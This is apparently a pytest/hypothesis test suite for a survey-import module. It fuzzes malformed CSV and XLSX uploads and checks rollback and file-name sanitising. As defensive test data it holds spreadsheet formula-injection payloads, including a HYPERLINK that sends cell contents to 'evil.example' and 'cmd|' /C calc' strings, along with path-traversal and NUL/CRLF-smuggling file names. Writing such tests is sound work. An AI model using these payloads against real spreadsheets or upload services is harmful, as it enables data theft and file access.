"""Broken and fuzzed import files, and the upload limits of the control center.

Every case ends in either a clean ImportReport or an ImportFileError whose message names
the file (and the row/line or column where there is one), never another exception type,
and never a partial write unless partial=True: checked by counting the rows of the data
tables (survey_answers, base_scores, import_log) before and after each import.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import textwrap
import time
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics.center import CenterDB
from analytics.center.imports import import_history
from analytics.imports import MAX_CELL_CHARS, ImportReport, neutralise_cell
from analytics.imports.scores import import_scores
from analytics.imports.survey import import_survey
from analytics.center.accounts import audit_entries
from analytics.web.context import get_db
from analytics.web.imports import display_name
from manyi.exc import ImportFileError, ManyiError, StoreError
from manyi.periods import Quarter

Q3 = Quarter(2026, 3)
IMPORTERS = {"survey": import_survey, "scores": import_scores}
TABLES = ("survey_answers", "base_scores", "import_log")
FUZZ = settings(max_examples=120, deadline=None, database=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

SURVEY_HEADER = ["日期", "手机号", "县区", "乡镇(街道)", "评价", "备注"]
SURVEY_ROWS = [
    ["2026-07-15", "13800001234", "牡丹区", "东城街道", "满意", ""],
    ["2026-07-16", "13800001235", "曹县", "", "不满意", "排队太久"],
    ["2026-08-01", "13800001236", "曹县", "庄寨镇", "基本满意", ""],
]
SCORES_TEXT = "代码,县区,乡镇(街道),综合考核得分\n371702,牡丹区,,92.5\n371721,曹县,,88\n"


@pytest.fixture(scope="module")
def fuzz_db(tmp_path_factory):
    """One center db for a whole hypothesis run (the checks compare counts before/after)."""
    db = CenterDB(tmp_path_factory.mktemp("fuzz") / "center.db")
    yield db
    db.close()


def row_counts(db) -> dict[str, int]:
    """Rows in each data table (0 when the table does not exist yet)."""
    out = {}
    for table in TABLES:
        exists = db.query("SELECT 1 FROM sqlite_master WHERE type = 'table' AND name = ?", (table,))
        out[table] = db.query(f"SELECT COUNT(*) FROM {table}")[0][0] if exists else 0
    return out


def check_import(db, registry, kind: str, data: bytes, filename: str, *, partial: bool = False, **options):
    """Run one import and check the contract; return the ImportReport or the ImportFileError."""
    before = row_counts(db)
    try:
        report = IMPORTERS[kind](db, registry, data, Q3, filename=filename, partial=partial, **options)
    except ManyiError as exc:
        assert isinstance(exc, ImportFileError), repr(exc)
        message = str(exc)
        assert message.startswith(f"{filename}: ") and len(message) > len(filename) + 12, message
        assert row_counts(db) == before, message
        return exc
    assert isinstance(report, ImportReport)
    for rejected in report.rejected:
        assert rejected.row >= 1 and rejected.column and rejected.reason and rejected.code, rejected
    after = row_counts(db)
    if report.rejected and not partial:
        assert report.aborted and report.imported == 0 and report.import_id is None
        assert after == before, report.summary()
        assert "NOTHING IMPORTED" in report.summary()
    else:
        assert not report.aborted and after["import_log"] == before["import_log"] + 1
        if kind == "survey" and not options.get("replace"):
            assert after["survey_answers"] == before["survey_answers"] + report.imported
        elif kind == "scores":
            assert after["base_scores"] == report.imported + report.already_present
    return report


def survey_csv(rows=SURVEY_ROWS, header=SURVEY_HEADER, encoding="utf-8", delimiter=",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def survey_xlsx(rows=SURVEY_ROWS, header=SURVEY_HEADER) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def patch_zip(data: bytes, member: str, edit) -> bytes:
    """A copy of a zip (xlsx) with one member's bytes replaced by ``edit(bytes)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info, edit(content) if info.filename == member else content)
    return out.getvalue()


def stored_notes(db) -> list[str]:
    return [r["note"] for r in db.query("SELECT note FROM survey_answers ORDER BY source_row")]


# --------------------------------------------------------------------------- generated garbage


@FUZZ
@given(data=st.binary(max_size=3000), kind=st.sampled_from(sorted(IMPORTERS)),
       ext=st.sampled_from([".csv", ".xlsx", ".txt"]), partial=st.booleans())
def test_random_bytes(fuzz_db, heze, data, kind, ext, partial):
    check_import(fuzz_db, heze, kind, data, f"random{ext}", partial=partial)


@FUZZ
@given(tail=st.binary(max_size=2000), kind=st.sampled_from(sorted(IMPORTERS)), partial=st.booleans())
def test_random_bytes_below_a_valid_header(fuzz_db, heze, tail, kind, partial):
    header = "日期,手机号,县区,乡镇(街道),评价,备注\n" if kind == "survey" else "代码,县区,乡镇(街道),综合考核得分\n"
    check_import(fuzz_db, heze, kind, header.encode("utf-8") + tail, "tail.csv", partial=partial)


CELL = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["满意", "基本满意", "不满意", "不了解", "牡丹区", "曹县", "东城街道", "庄寨镇", "火星镇",
                     "2026-07-15", "2026/13/45", "20260801", "45870", "92.5", "-3", "1e308", "nan", "",
                     '=HYPERLINK("http://evil.example","点我")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1",
                     "\x00", "\r\n", '"', "，", "\u202e", "\ufeff"]),
)


@FUZZ
@given(rows=st.lists(st.lists(CELL, min_size=0, max_size=8), max_size=12),
       kind=st.sampled_from(sorted(IMPORTERS)), partial=st.booleans(),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16"]))
def test_random_cells_under_a_valid_header(fuzz_db, heze, rows, kind, partial, encoding):
    header = SURVEY_HEADER if kind == "survey" else ["代码", "县区", "乡镇(街道)", "综合考核得分"]
    out = io.StringIO()
    csv.writer(out, delimiter="\t" if encoding == "utf-16" else ",").writerows([header, *rows])
    check_import(fuzz_db, heze, kind, out.getvalue().encode(encoding), f"cells-{encoding}.csv", partial=partial)


def test_truncated_xlsx_at_many_offsets(fuzz_db, heze):
    data = survey_xlsx(SURVEY_ROWS * 5)
    offsets = sorted({*range(0, len(data), max(1, len(data) // 80)), len(data) - 1, len(data) - 22})
    for offset in offsets:
        outcome = check_import(fuzz_db, heze, "survey", data[:offset], "truncated.xlsx")
        assert isinstance(outcome, ImportFileError), offset
        assert "truncated" in str(outcome) or "empty" in str(outcome) or "not a valid .xlsx" in str(outcome)
    whole = check_import(fuzz_db, heze, "survey", data, "whole.xlsx")
    assert whole.rows_read == 15 and whole.duplicates == 12 and whole.imported + whole.already_present == 3


@FUZZ
@given(edits=st.lists(st.tuples(st.floats(0, 1), st.integers(0, 255)), min_size=1, max_size=4),
       partial=st.booleans())
def test_corrupted_xlsx_bytes(fuzz_db, heze, edits, partial):
    data = bytearray(survey_xlsx())
    for where, value in edits:
        data[min(len(data) - 1, int(where * len(data)))] = value
    check_import(fuzz_db, heze, "survey", bytes(data), "corrupt.xlsx", partial=partial, replace=True)


# --------------------------------------------------------------------------- encodings


@pytest.mark.parametrize("encoding, delimiter", [("utf-16", "\t"), ("utf-16", ","), ("utf-8-sig", ";"),
                                                 ("gb18030", ",")])
def test_readable_encodings_import_every_row(center_db, heze, encoding, delimiter):
    report = check_import(center_db, heze, "survey", survey_csv(encoding=encoding, delimiter=delimiter), "s.csv")
    assert report.imported == 3 and not report.rejected, report.summary()


def test_utf16_without_a_byte_order_mark_is_named(center_db, heze):
    for codec in ("utf-16-le", "utf-16-be"):
        error = check_import(center_db, heze, "survey", survey_csv(encoding=codec), "nobom.csv")
        assert isinstance(error, ImportFileError) and "UTF-16 text without a byte-order mark" in str(error)


def test_latin1_mojibake_header_names_the_missing_columns(center_db, heze):
    garbled = survey_csv().decode("utf-8").encode("utf-8").decode("latin-1").encode("utf-8")
    error = check_import(center_db, heze, "survey", garbled, "mojibake.csv")
    assert isinstance(error, ImportFileError) and "missing column(s) 日期" in str(error)
    assert "the first row reads" in str(error)


def test_a_gbk_file_with_a_broken_byte_names_the_offset(center_db, heze):
    data = survey_csv(encoding="gbk")
    broken = data[:60] + b"\xff\xff\xff" + data[60:]
    error = check_import(center_db, heze, "survey", broken, "broken-gbk.csv")
    assert isinstance(error, ImportFileError) and "bad byte at offset" in str(error)


# --------------------------------------------------------------------------- formulas and injection


def test_formula_cells_without_cached_values_reject_their_rows(center_db, heze):
    rows = [list(SURVEY_ROWS[0]), ["=DATE(2026,7,20)", "", "曹县", "", "满意", ""], list(SURVEY_ROWS[2])]
    data = survey_xlsx(rows)   # written by a program, never opened in Excel: no cached results
    report = check_import(center_db, heze, "survey", data, "formulas.xlsx")
    assert report.aborted and [(r.row, r.column, r.code) for r in report.rejected] == [(3, "日期", "formula_no_value")]
    assert report.rejected[0].value == "=DATE(2026,7,20)"
    partial = check_import(center_db, heze, "survey", data, "formulas.xlsx", partial=True)
    assert partial.imported == 2 and len(partial.rejected) == 1


def test_a_formula_without_value_in_an_optional_column_keeps_the_row(center_db, heze):
    """Issue 12, item 10: a note cell holding an uncached formula is neutralised and warned, never rejected."""
    rows = [list(SURVEY_ROWS[0]), ["2026-07-20", "", "曹县", "", "满意", '=HYPERLINK("http://evil.example","点我")']]
    report = check_import(center_db, heze, "survey", survey_xlsx(rows), "note-formula.xlsx")
    assert not report.aborted and report.imported == 2 and not report.rejected
    assert [(w.row, w.column, w.code) for w in report.warnings] == [(3, "备注", "formula_no_value")]
    assert stored_notes(center_db)[-1] == "'=HYPERLINK(\"http://evil.example\",\"点我\")"


def test_formula_cells_with_cached_values_use_the_cached_values(center_db, heze):
    rows = [["=DATE(2026,7,20)", "", "曹县", "", "满意", '=HYPERLINK("http://evil.example","点我")']]
    serial = (date(2026, 7, 20) - date(1899, 12, 30)).days

    def cache(xml: bytes) -> bytes:   # what Excel writes: the formula and its last result
        xml = xml.replace(b"<c r=\"A2\"><f>DATE(2026,7,20)</f><v /></c>",
                          f"<c r=\"A2\"><f>DATE(2026,7,20)</f><v>{serial}</v></c>".encode())
        return xml.replace(b"<c r=\"F2\"><f>", b"<c r=\"F2\" t=\"str\"><f>").replace(
            b"\xe7\x82\xb9\xe6\x88\x91\")</f><v /></c>", "点我\")</f><v>点我</v></c>".encode())

    data = patch_zip(survey_xlsx(rows), "xl/worksheets/sheet1.xml", cache)
    report = check_import(center_db, heze, "survey", data, "cached.xlsx")
    assert report.imported == 1 and not report.rejected, report.summary()
    row = center_db.query("SELECT answered_at, note FROM survey_answers")[0]
    assert row["answered_at"].startswith("2026-07-20") and row["note"] == "点我"


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_injection_text_in_notes_is_kept_as_text_and_neutralised_on_output(center_db, heze):
    rows = [[f"2026-07-{10 + i:02d}", "", "曹县", "", "满意", text] for i, text in enumerate(INJECTIONS)]
    report = check_import(center_db, heze, "survey", survey_csv(rows), "inject.csv")
    assert report.imported == len(INJECTIONS)
    notes = stored_notes(center_db)
    assert notes == [" ".join(text.split()) for text in INJECTIONS]   # stored verbatim (cleaned spaces)
    assert all(str(neutralise_cell(note)).startswith("'") for note in notes)


def test_injection_text_typed_as_text_in_xlsx_is_kept_as_text(center_db, heze):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(SURVEY_HEADER)
    for i, text in enumerate(INJECTIONS[:3]):
        sheet.append([f"2026-07-{10 + i:02d}", "", "曹县", "", "满意", None])
        cell = sheet.cell(row=i + 2, column=6, value=text)
        cell.data_type = "s"      # a text cell (Excel: typed with a leading apostrophe)
    buffer = io.BytesIO()
    book.save(buffer)
    report = check_import(center_db, heze, "survey", buffer.getvalue(), "inject.xlsx")
    assert report.imported == 3 and stored_notes(center_db) == INJECTIONS[:3]


# --------------------------------------------------------------------------- structure


def test_empty_header_only_and_missing_header(center_db, heze):
    for data in (b"", b"   \r\n\r\n", "\ufeff".encode("utf-8")):
        error = check_import(center_db, heze, "survey", data, "empty.csv")
        assert isinstance(error, ImportFileError) and "the file is empty" in str(error)
    report = check_import(center_db, heze, "survey", survey_csv(rows=[]), "header-only.csv")
    assert report.rows_read == 0 and report.imported == 0 and not report.aborted
    headless = survey_csv()[len(",".join(SURVEY_HEADER).encode()) + 2:]
    error = check_import(center_db, heze, "survey", headless, "headless.csv")
    assert isinstance(error, ImportFileError) and "missing column(s) 日期" in str(error)
    error = check_import(center_db, heze, "scores", survey_csv(), "survey-as-scores.csv")
    assert isinstance(error, ImportFileError) and "missing column(s) 综合考核得分" in str(error)


def test_merged_header_over_two_rows_and_a_zip_that_is_no_workbook(center_db, heze):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["日期", "回访结果", None, None])
    sheet.append([None, "县区", "评价", "备注"])
    sheet.merge_cells("A1:A2")
    sheet.merge_cells("B1:D1")
    sheet.append(["2026-07-15", "曹县", "满意", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    report = check_import(center_db, heze, "survey", buffer.getvalue(), "merged.xlsx")
    assert report.header_row == 2 and report.imported == 1
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("readme.txt", "hello")
    error = check_import(center_db, heze, "survey", archive.getvalue(), "archive.xlsx")
    assert isinstance(error, ImportFileError) and "not an Excel workbook" in str(error)


def test_binary_files_are_named(center_db, heze):
    for data, what in ((b"MZ\x90\x00" + bytes(200), "Windows program"), (b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG"),
                       (b"%PDF-1.7\n%\xe2\xe3", "PDF"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), ".xls")):
        error = check_import(center_db, heze, "survey", data, "upload.csv")
        assert isinstance(error, ImportFileError) and what in str(error)


def test_nul_bytes(center_db, heze):
    error = check_import(center_db, heze, "survey", b"\x00" + survey_csv(), "nul.csv")
    assert isinstance(error, ImportFileError) and "NUL bytes (at offset 0)" in str(error)
    rows = [[f"2026-07-{1 + i % 28:02d}", "", "曹县", "", "满意", f"备注{i}"] for i in range(300)]
    rows[-1][5] = "bad\x00note"          # past the first 4 KB: a stray NUL inside a cell
    report = check_import(center_db, heze, "survey", survey_csv(rows), "late-nul.csv")
    assert report.imported == 300 and stored_notes(center_db)[-1] == "badnote"


def test_very_long_cells(center_db, heze):
    """Too long in a required column rejects the row; in an optional one (备注) it is shortened and warned."""
    rows = [list(SURVEY_ROWS[0]), ["2026-07-20", "", "曹县", "", "长" * (MAX_CELL_CHARS + 1), ""]]
    report = check_import(center_db, heze, "survey", survey_csv(rows), "long.csv")
    assert report.aborted and [(r.row, r.column, r.code) for r in report.rejected] == [(3, "评价", "too_long")]
    assert len(report.rejected[0].value) < 60
    report = check_import(center_db, heze, "survey", survey_xlsx(rows), "long.xlsx")
    assert report.aborted and report.rejected[0].code == "too_long"
    rows = [list(SURVEY_ROWS[0]), ["2026-07-20", "", "曹县", "", "满意", "长" * (MAX_CELL_CHARS + 1)]]
    report = check_import(center_db, heze, "survey", survey_csv(rows), "long-note.csv")
    assert not report.aborted and report.imported == 2 and not report.rejected
    assert [(w.row, w.column, w.code) for w in report.warnings] == [(3, "备注", "too_long")]
    assert len(stored_notes(center_db)[-1]) == MAX_CELL_CHARS
    huge = survey_csv([["2026-07-20", "", "曹县", "", "满意", "x" * 200_000]])
    error = check_import(center_db, heze, "survey", huge, "huge.csv")
    assert isinstance(error, ImportFileError) and "near line 2" in str(error)


def test_unknown_townships_are_listed_and_nothing_is_imported(center_db, heze):
    rows = SURVEY_ROWS + [["2026-07-20", "", "牡丹区", "火星镇", "满意", ""],
                          ["2026-07-21", "", "曹县", "庄塞镇", "满意", ""]]
    report = check_import(center_db, heze, "survey", survey_csv(rows), "towns.csv")
    assert report.aborted and report.valid == 3
    assert [(r.row, r.column, r.value, r.code) for r in report.rejected] == [
        (5, "乡镇(街道)", "火星镇", "unknown_unit"), (6, "乡镇(街道)", "庄塞镇", "unknown_unit")]
    assert report.unmatched["庄塞镇"][0].startswith("庄寨镇")
    assert check_import(center_db, heze, "survey", survey_csv(rows), "towns.csv", partial=True).imported == 3


# --------------------------------------------------------------------------- size and crashes


def big_survey(heze, rows: int) -> bytes:
    towns = [(heze.counties[t.county_code].name, t.name) for t in heze.townships.values()
             if t.county_code in heze.counties]
    answers = ("满意", "基本满意", "不满意", "非常满意", "不了解")
    lines = [",".join(SURVEY_HEADER)]
    for i in range(rows):
        county, town = towns[i % len(towns)]
        lines.append(f"2026-{7 + i % 3:02d}-{1 + i % 28:02d} {i % 24:02d}:{i % 60:02d},138{i:08d},"
                     f"{county},{town},{answers[i % 5]},第{i}行")
    return ("\n".join(lines) + "\n").encode("utf-8")


@pytest.mark.timeout(180)
def test_100k_rows(center_db, heze):
    data = big_survey(heze, 100_000)
    started = time.perf_counter()
    report = check_import(center_db, heze, "survey", data, "big.csv")
    elapsed = time.perf_counter() - started
    print(f"\n100,000-row survey ({len(data) / 2**20:.1f} MB): imported in {elapsed:.1f} s")   # not asserted
    assert report.imported == 100_000 and not report.rejected
    # the same file with one bad row at the very end, replacing the quarter: nothing changes
    bad = data + "2026-07-01,,牡丹区,不存在镇,满意,\n".encode("utf-8")
    report = check_import(center_db, heze, "survey", bad, "big-bad.csv", replace=True)
    assert report.aborted and report.replaced == 0 and [r.row for r in report.rejected] == [100_002]
    assert row_counts(center_db)["survey_answers"] == 100_000


def test_a_database_failure_mid_write_rolls_everything_back(center_db, heze):
    check_import(center_db, heze, "survey", survey_csv(), "first.csv")
    rows = [[f"2026-07-{1 + i % 28:02d}", "", "曹县", "", "满意", f"第{i}行"] for i in range(200)]
    # a real SQLite failure after 100 of the 200 inserts (a TEMP trigger lives only on this connection)
    center_db.execute("CREATE TEMP TRIGGER fail_mid_import BEFORE INSERT ON main.survey_answers "
                      "WHEN (SELECT COUNT(*) FROM main.survey_answers) >= 100 "
                      "BEGIN SELECT RAISE(ABORT, 'disk I/O error (simulated)'); END")
    before = row_counts(center_db)
    with pytest.raises(StoreError, match=r"second\.csv: writing the survey import .* nothing was imported"):
        import_survey(center_db, heze, survey_csv(rows), Q3, filename="second.csv", replace=True)
    assert row_counts(center_db) == before
    assert center_db.query("SELECT COUNT(*) FROM survey_answers")[0][0] == 3   # the replace was undone too
    center_db.execute("DROP TRIGGER temp.fail_mid_import")
    assert check_import(center_db, heze, "survey", survey_csv(rows), "second.csv", replace=True).imported == 200


CRASHING_IMPORT = textwrap.dedent("""
    import os, sys
    from analytics.center import CenterDB
    from analytics.imports.survey import import_survey
    from manyi.periods import Quarter
    from manyi.registry import heze_sample

    db = CenterDB(sys.argv[1])
    db.conn.create_function("crash_now", 0, lambda: os._exit(9))   # the process dies mid-transaction
    db.execute("CREATE TEMP TRIGGER crash BEFORE INSERT ON main.survey_answers "
               "WHEN (SELECT COUNT(*) FROM main.survey_answers) >= 500 BEGIN SELECT crash_now(); END")
    import_survey(db, heze_sample(), open(sys.argv[2], "rb").read(), Quarter(2026, 3), filename="crash.csv",
                  replace=True)
    sys.exit(0)
""")


def test_a_process_killed_mid_import_leaves_nothing(tmp_path, heze):
    db_path = tmp_path / "center.db"
    db = CenterDB(db_path)
    check_import(db, heze, "survey", survey_csv(), "first.csv")
    before = row_counts(db)
    db.close()
    path = tmp_path / "crash.csv"
    path.write_bytes(big_survey(heze, 2000))
    result = subprocess.run([sys.executable, "-c", CRASHING_IMPORT, str(db_path), str(path)],
                            capture_output=True, text=True, timeout=120, cwd=Path(__file__).parent.parent)
    assert result.returncode == 9, result.stderr
    db = CenterDB(db_path)
    try:
        assert row_counts(db) == before
        assert db.query("PRAGMA integrity_check")[0][0] == "ok"
    finally:
        db.close()


# --------------------------------------------------------------------------- web uploads


def upload(auth, content: bytes, filename: str, kind="survey", **extra):
    return auth.post(f"/imports/{kind}", {"quarter": "2026Q3", "file": (io.BytesIO(content), filename), **extra},
                     content_type="multipart/form-data")


def files_under(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


def test_an_upload_over_the_limit_gets_a_chinese_413(client, auth, api_token):
    auth.login("admin")
    limit = client.application.config["MAX_CONTENT_LENGTH"]
    big = b"x" * (limit + 1)
    r = upload(auth, big, "big.csv")
    html = r.get_data(as_text=True)
    assert r.status_code == 413 and "上传的文件过大" in html and "20 MB" in html
    assert "Traceback" not in html and "Request Entity Too Large" not in html
    r = client.post("/api/v1/imports/survey", headers={"Authorization": f"Bearer {api_token('assessor')}"},
                    content_type="multipart/form-data",
                    data={"quarter": "2026Q3", "file": (io.BytesIO(big), "big.csv")})
    assert r.status_code == 413 and r.get_json()["error"] == "file_too_large" and "上限" in r.get_json()["message"]
    assert row_counts(get_db(client.application)) == {t: 0 for t in TABLES}


@pytest.mark.parametrize("content, filename, message", [
    (b"MZ\x90\x00" + bytes(100), "setup.exe", "只接受 Excel 工作簿"),
    (b"MZ\x90\x00" + bytes(100), "setup.csv", "Windows program"),
    (b"\x89PNG\r\n\x1a\n" + bytes(100), "photo.csv", "PNG image"),
    (b"\xff\xd8\xff\xe0" + bytes(100), "photo.xlsx", "JPEG image"),
    (b"%PDF-1.7\n" + bytes(100), "report.pdf", "只接受 Excel 工作簿"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old.xlsx", "Excel 97-2003"),
    (None, "archive.csv", "压缩包"),
])
def test_wrong_types_are_refused_with_a_message(client, auth, content, filename, message):
    if content is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as z:
            z.writestr("readme.txt", "hello")
        content = buffer.getvalue()
    auth.login("admin")
    r = upload(auth, content, filename)
    assert r.status_code == 415 and "文件类型不支持" in r.get_data(as_text=True) and message in r.get_data(as_text=True)
    assert row_counts(get_db(client.application)) == {t: 0 for t in TABLES}
    assert audit_entries(get_db(client.application), action="import.survey.refused")[0]["detail"]["file"] == filename


def test_a_zip_renamed_to_xlsx_is_refused_by_the_reader(client, auth):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("readme.txt", "hello")
    auth.login("admin")
    r = upload(auth, buffer.getvalue(), "renamed.xlsx")
    assert r.status_code == 400 and "not an Excel workbook" in r.get_data(as_text=True)


def raw_upload(client, token: str, filename_header: bytes, content: bytes):
    """POST a multipart body built by hand, so that the file name can carry what a test client
    cannot: RFC 2231 ``filename*=UTF-8''...`` decodes to NULs, CR/LF and slashes (curl can send it)."""
    body = (b"--XYZ\r\nContent-Disposition: form-data; name=\"quarter\"\r\n\r\n2026Q3\r\n"
            b"--XYZ\r\nContent-Disposition: form-data; name=\"file\"; " + filename_header + b"\r\n"
            b"Content-Type: text/csv\r\n\r\n" + content + b"\r\n--XYZ--\r\n")
    return client.post("/imports/survey", data=body, headers={"X-CSRF-Token": token},
                       content_type="multipart/form-data; boundary=XYZ")


@pytest.mark.parametrize("name, shown", [
    ("../../etc/回访.csv", "回访.csv"),
    ("/etc/passwd/../回访.csv", "回访.csv"),
    ("..\\..\\Windows\\System32\\回访.csv", "回访.csv"),
    ("回\x00访\r\n.csv", "回访.csv"),
    ("回访\r\n../../x\x00.csv", "x.csv"),
    ("\u202evsc.exe\u202c.csv", "vsc.exe.csv"),
    ("../../etc/passwd", "passwd"),
])
def test_file_names_are_sanitised(client, auth, tmp_path, name, shown):
    from urllib.parse import quote

    assert display_name(name) == shown
    auth.login("assessor")
    cwd = Path.cwd()
    before, before_cwd = files_under(tmp_path), set(os.listdir(cwd))
    header = b"filename*=UTF-8''" + quote(name, safe="").encode("ascii")
    r = raw_upload(client, auth.csrf(), header, survey_csv())
    db = get_db(client.application)
    if shown.endswith(".csv"):
        assert r.status_code == 200, r.get_data(as_text=True)
        assert [h["filename"] for h in import_history(db)] == [shown]
        assert audit_entries(db, action="import.survey")[0]["detail"]["file"] == shown
    else:
        assert r.status_code == 415 and "文件类型不支持：passwd" in r.get_data(as_text=True)
        assert audit_entries(db, action="import.survey.refused")[0]["detail"]["file"] == shown
    html = r.get_data(as_text=True)
    assert "../" not in html and "\x00" not in html and "etc/" not in html
    # nothing is written outside the database: only center.db* and votes.db* may change
    new = {f for f in files_under(tmp_path) - before if not f.split("/")[-1].startswith(("center.db", "votes.db"))}
    assert new == set()
    # the shared checkout may gain files from other test runs: look only for anything like the upload
    appeared = set(os.listdir(cwd)) - before_cwd
    assert not [n for n in appeared if "回访" in n or "passwd" in n or n.endswith((".csv", ".exe"))], appeared


def test_a_plain_multipart_file_name_with_a_path_is_sanitised(client, auth):
    auth.login("admin")
    r = upload(auth, survey_csv(), "../../etc/回访.csv")
    assert r.status_code == 200
    assert import_history(get_db(client.application))[0]["filename"] == "回访.csv"


def test_display_name_limits():
    assert display_name(None) == "upload" and display_name("") == "upload" and display_name("../..") == "upload"
    long = display_name("长" * 500 + ".xlsx")
    assert len(long) <= 120 and long.endswith("….xlsx")
    assert display_name("a\u2028b\u0085c.csv") == "abc.csv"
